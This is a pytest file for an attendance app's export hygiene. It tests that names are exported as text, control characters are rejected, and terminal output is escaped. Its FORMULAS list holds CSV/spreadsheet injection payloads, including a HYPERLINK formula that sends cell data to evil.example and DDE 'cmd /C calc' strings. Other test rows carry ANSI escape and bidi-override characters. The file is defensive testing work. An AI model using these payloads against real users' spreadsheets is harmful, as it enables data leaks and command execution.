"""Hostile text in names: formulas stay words in every export, control characters are
refused at the door, invisible ones are removed, terminals get escapes (issue 12)."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop_app.documents.registration.import_report_xlsx import export_report_xlsx
from desktop_app.documents.reports.recap_xlsx import export_recap_xlsx
from desktop_app.documents.signing.attendance_sheet import write_attendance_sheet
from desktop_app.models import Attendee, Event
from desktop_app.services.common.text_hygiene import formula_safe, terminal_safe
from desktop_app.services.registration.attendee_import import RowStatus, import_attendees
from desktop_app.services.registration.attendee_search import invalidate, search_attendees
from desktop_app.services.reports.attendance_summary import attendance_summary
from tests.conftest import run_cli
from tests.factories import add_attendee, new_event

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def event(home: Path) -> Event:
    return new_event()


def _import_csv(event: Event, path: Path, rows: list[list[str]]):  # type: ignore[no-untyped-def]
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Nama", "Jabatan", "Instansi"])
        writer.writerows(rows)
    return import_attendees(event, path)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(n).decode("utf-8")
            for n in archive.namelist()
            if n.startswith("xl/worksheets/")
        )


def test_formulas_typed_into_names_come_out_as_words(event: Event, tmp_path: Path) -> None:
    # Before: stored as typed and written as live formulas into xlsx, raw into CSV.
    rows = [[f"Budi {i} {f}", f, f] for i, f in enumerate(FORMULAS)]
    report = _import_csv(event, tmp_path / "jahat.csv", rows)
    assert report.imported == len(FORMULAS), report.lines
    stored = {a.position for a in Attendee.select().where(Attendee.event == event)}
    assert stored == set(FORMULAS)  # kept as typed: they are the words on the list

    xlsx = tmp_path / "hadir.xlsx"
    write_attendance_sheet(event, xlsx, "xlsx")
    assert "<f>" not in _sheet_xml(xlsx)  # not one formula in the file
    sheet = openpyxl.load_workbook(xlsx).active
    values = {cell.value for row in sheet.iter_rows(min_row=4) for cell in row}
    assert set(FORMULAS) <= values
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=4) for cell in row[4:6])

    out = tmp_path / "hadir.csv"
    write_attendance_sheet(event, out, "csv")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh, delimiter=";") for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.startswith('="')]
    assert {"'" + f for f in FORMULAS} <= set(cells)

    recap = tmp_path / "rekap.xlsx"
    export_recap_xlsx(event, attendance_summary(event), recap)
    assert "<f>" not in _sheet_xml(recap)
    assert FORMULAS[0] in {
        c.value for c in openpyxl.load_workbook(recap)["Per instansi"]["A"] if c.value
    }


def test_import_report_keeps_rejected_formula_cells_as_text(event: Event, tmp_path: Path) -> None:
    path = tmp_path / "tolak.csv"
    path.write_text('Nama,NIP,Instansi\n=1+1 Budi,12,=HYPERLINK("x")\n', encoding="utf-8")
    report = import_attendees(event, path)
    assert report.rejected == 1
    out = export_report_xlsx(report, tmp_path / "laporan.xlsx")
    assert "<f>" not in _sheet_xml(out)
    fix = list(openpyxl.load_workbook(out)["Perbaiki"].iter_rows(min_row=2, values_only=True))
    assert fix[0][2] == "=1+1 Budi" and fix[0][4] == '=HYPERLINK("x")'


def test_control_characters_refuse_the_row_and_say_which(event: Event, tmp_path: Path) -> None:
    # Before: accepted, then the xlsx export of the whole event failed.
    rows = [
        ["Budi\x07 Santoso", "Staf", "Dinas Pendidikan"],
        ["Ani \x1b[31mLestari", "Staf", "Dinas Kesehatan"],
        ["Citra Dewi", "Staf\x7f", "Dinas Sosial"],
        ["Dedi Kurnia", "Staf", "Dinas Pertanian"],
    ]
    report = _import_csv(event, tmp_path / "kendali.csv", rows)
    assert (report.imported, report.rejected) == (1, 3)
    reasons = {line.row: line.reason for line in report.lines if line.status is RowStatus.REJECTED}
    assert "U+0007" in reasons[2] and "U+001B" in reasons[3] and "U+007F" in reasons[4]
    assert [a.full_name for a in Attendee.select().where(Attendee.event == event)] == [
        "Dedi Kurnia"
    ]


def test_exports_never_fail_on_a_character_stored_elsewhere(event: Event, tmp_path: Path) -> None:
    # A row synced from an older station can still carry one: the export drops it.
    add_attendee(event, "Eka\x07 Putri", "EKAPUTRI", institution="Dinas\x1b[0m Sosial")
    out = tmp_path / "hadir.xlsx"
    write_attendance_sheet(event, out, "xlsx")
    names = [c.value for c in openpyxl.load_workbook(out).active["B"]]
    assert "Eka Putri" in names
    csv_out = tmp_path / "hadir.csv"
    write_attendance_sheet(event, csv_out, "csv")
    assert "\x07" not in csv_out.read_text(encoding="utf-8-sig")


def test_invisible_characters_are_removed_and_matching_ignores_them(
    event: Event, tmp_path: Path
) -> None:
    # Before: a zero-width space defeated search and duplicate matching.
    rows = [
        ["Bu\u200bdi Santoso", "Staf", "Dinas Pendidikan"],
        ["Budi Santoso", "Staf", "Dinas Pendidikan"],  # the same person, visibly
        ["\u202eAni Lestari", "Staf", "Dinas Kese\u200dhatan"],
    ]
    report = _import_csv(event, tmp_path / "tak-terlihat.csv", rows)
    assert (report.imported, report.skipped) == (2, 1), report.lines
    warnings = [line for line in report.lines if line.status is RowStatus.WARNING]
    assert {w.row for w in warnings} == {2, 4}
    assert all("tak terlihat" in w.reason for w in warnings)
    stored = sorted(
        (a.full_name, a.institution) for a in Attendee.select().where(Attendee.event == event)
    )
    assert stored == [("Ani Lestari", "Dinas Kesehatan"), ("Budi Santoso", "Dinas Pendidikan")]
    assert [r.full_name for r in search_attendees(event, "budi")] == ["Budi Santoso"]
    # Text stored before this rule (or by a peer) still matches a plain query.
    add_attendee(event, "Ce\u200bcep Hidayat", "CECEPHID", institution="Dinas Sosial")
    invalidate(event.id)
    assert [r.code for r in search_attendees(event, "cecep")] == ["CECEPHID"]


def test_cli_shows_escapes_instead_of_driving_the_terminal(tmp_path: Path) -> None:
    home = tmp_path / "h"
    code = run_cli("demo", "--attendees", "0", home=home, check=True).stdout.strip()
    from desktop_app.bootstrap import open_home
    from desktop_app.models import close_db
    from desktop_app.services.events.event_store import get_event

    open_home(home)
    try:
        add_attendee(get_event(code), "Joko\x1b[31m\u202e Widodo", "JOKOWIDO")
    finally:
        close_db()
    result = run_cli("checkin", code, "JOKOWIDO", home=home)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert "Joko\\u001b[31m\\u202e Widodo" in result.stdout


def test_helpers_follow_the_owasp_rule() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert formula_safe(start + "1") == "'" + start + "1"
    assert formula_safe("Budi") == "Budi"
    assert re.fullmatch(r"a\\u0007b", terminal_safe("a\x07b"))
    assert terminal_safe("Ná\nme") == "Ná\nme"
